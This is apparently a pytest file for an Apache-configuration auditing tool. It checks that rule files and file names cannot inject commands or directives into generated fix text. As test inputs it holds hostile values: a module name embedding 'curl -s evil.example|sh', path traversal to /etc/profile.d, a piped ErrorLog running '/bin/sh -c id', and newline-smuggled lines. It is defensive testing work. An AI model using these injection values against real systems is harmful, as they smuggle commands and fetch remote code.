"""The text of a fix is pasted by an operator or applied by a tool: no text of
the tree or of a repository's rule file may add a line, a directive or a
shell command to it, and every line it gives must read back under httpd as
meant.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from click.testing import CliRunner

from tcpaudit.apache.lexer import split_words
from tcpaudit.cli import cli

REPO = Path(__file__).resolve().parents[2]


def _findings(root: Path, *extra: str) -> list[dict[str, object]]:
    result = CliRunner().invoke(cli, ["audit", "--root", str(root), "--format", "json", *extra])
    assert result.exit_code in (0, 1), result.output
    findings: list[dict[str, object]] = json.loads(result.stdout)["findings"]
    return findings


def test_a_rule_file_cannot_name_a_module_that_is_a_command(tmp_path: Path) -> None:
    # module: "x$(curl ...|sh)_module" reached the text to paste as
    # "a2enmod x$(curl ...|sh)", and fix wrote a file of that name; "../.."
    # in it wrote outside Apache's directories.
    root = tmp_path / "debian"
    shutil.copytree(REPO / "tests/corpus/debian-12-apache2.4", root, symlinks=True)
    rules = tmp_path / "rules"
    rules.mkdir()
    for number, module in enumerate(
        ("x$(curl -s evil.example|sh)_module", "../../../../etc/profile.d/zz_module")
    ):
        rule = rules / f"TA90{number}-x.yaml"
        text = (REPO / "rules/TA103-reqtimeout-missing.yaml").read_text()
        text = text.replace("id: TA103", f"id: TA90{number}")
        rule.write_text(text.replace("module: reqtimeout_module", f"module: {json.dumps(module)}"))
        result = CliRunner().invoke(cli, ["audit", "--root", str(root), "--rules-dir", str(rules)])
        assert result.exit_code == 2, result.output
        error = result.stderr.strip()
        assert "\n" not in error and rule.name in error, error
        rule.unlink()


def test_a_module_directory_with_a_space_is_quoted_in_the_load_line(tmp_path: Path) -> None:
    root = tmp_path / "upstream"
    shutil.copytree(REPO / "tests/corpus/upstream-httpd-2.4.62", root, symlinks=True)
    conf = root / "usr/local/apache2/conf/httpd.conf"
    text = conf.read_text().replace("LoadModule reqtimeout_module modules/mod_reqtimeout.so\n", "")
    conf.write_text(
        text.replace(
            "LoadModule alias_module modules/mod_alias.so",
            'LoadModule alias_module "/opt/my mods/mod_alias.so"',
        )
    )
    fixes = [str(f["fix"]) for f in _findings(root) if f["rule"] == "TA103"]
    line = next(line for fix in fixes for line in fix.splitlines() if "LoadModule" in line)
    # httpd reads it back as two arguments ("LoadModule takes two arguments").
    assert split_words(line) == [
        "LoadModule",
        "reqtimeout_module",
        "/opt/my mods/mod_reqtimeout.so",
    ]


def test_a_sysctl_file_name_holding_newlines_adds_no_line_to_a_fix(tmp_path: Path) -> None:
    root = tmp_path / "debian"
    shutil.copytree(REPO / "tests/corpus/debian-12-apache2.4", root, symlinks=True)
    (root / "etc/sysctl.d").mkdir(exist_ok=True)
    (root / "etc/sysctl.d/zzz'\nid\n#.conf").write_text("net.ipv4.tcp_keepalive_time = 7200\n")
    fixes = [str(f["fix"] or "") for f in _findings(root)]
    assert any("tcp_keepalive_time" in fix for fix in fixes), fixes
    for fix in fixes:
        assert "id" not in fix.splitlines(), fix


def _rule_with(tmp_path: Path, number: int, old: str, new: str) -> Path:
    rules = tmp_path / f"rules{number}"
    rules.mkdir()
    text = (REPO / "rules/TA103-reqtimeout-missing.yaml").read_text()
    assert old in text
    text = text.replace("id: TA103", f"id: TA95{number}").replace(old, new)
    (rules / f"TA95{number}-x.yaml").write_text(text)
    return rules


def test_a_rule_file_cannot_add_lines_or_other_directives_to_a_fix(tmp_path: Path) -> None:
    # configure: was pasted as it stood: a newline added a piped ErrorLog (a
    # command httpd runs as root) and a LoadModule; a blank one raised IndexError.
    root = tmp_path / "debian"
    shutil.copytree(REPO / "tests/corpus/debian-12-apache2.4", root, symlinks=True)
    configure = 'configure: "RequestReadTimeout header=20-40,MinRate=500 body=20-120,MinRate=500"'
    hostile = [
        (
            configure,
            'configure: "ErrorLog \\"|/bin/sh -c id\\"\\nLoadModule evil_module /tmp/e.so"',
        ),
        (configure, 'configure: "RequestReadTimeout header=1\\nLoadModule evil_module /tmp/e.so"'),
        (configure, 'configure: "ErrorLog \\"|/bin/sh -c id\\""'),
        (configure, 'configure: "   "'),
        ("module: reqtimeout_module", "module: reqtimeout_module\n  configure_before: banana"),
    ]
    for number, (old, new) in enumerate(hostile):
        rules = _rule_with(tmp_path, number, old, new)
        result = CliRunner().invoke(cli, ["audit", "--root", str(root), "--rules-dir", str(rules)])
        assert result.exit_code == 2, (new, result.output)
        error = result.stderr.strip()
        assert "\n" not in error and f"TA95{number}-x.yaml" in error, error


def test_a_quoted_protocol_stays_one_word_in_the_accept_filter_fix(tmp_path: Path) -> None:
    root = tmp_path / "debian"
    shutil.copytree(REPO / "tests/corpus/debian-12-apache2.4", root, symlinks=True)
    with (root / "etc/apache2/apache2.conf").open("a") as conf:
        conf.write('AcceptFilter "a b" none\n')
    rules = tmp_path / "rules"
    rules.mkdir()
    source = (REPO / "rules/TA112-accept-filter-none.yaml").read_text()
    source = source.replace("id: TA112", "id: TA960").replace(
        "check: accept_filter_off", 'check: accept_filter_off\nparams:\n  protocols: ["a b"]'
    )
    (rules / "TA960-a.yaml").write_text(source)
    fixes = [
        str(f["fix"])
        for f in _findings(root, "--rules-dir", str(rules), "--apache-version", "2.4.71")
        if f["rule"] == "TA960"
    ]
    line = next(line for fix in fixes for line in fix.splitlines() if "AcceptFilter" in line)
    assert split_words(line) == ["AcceptFilter", "a b", "data"]
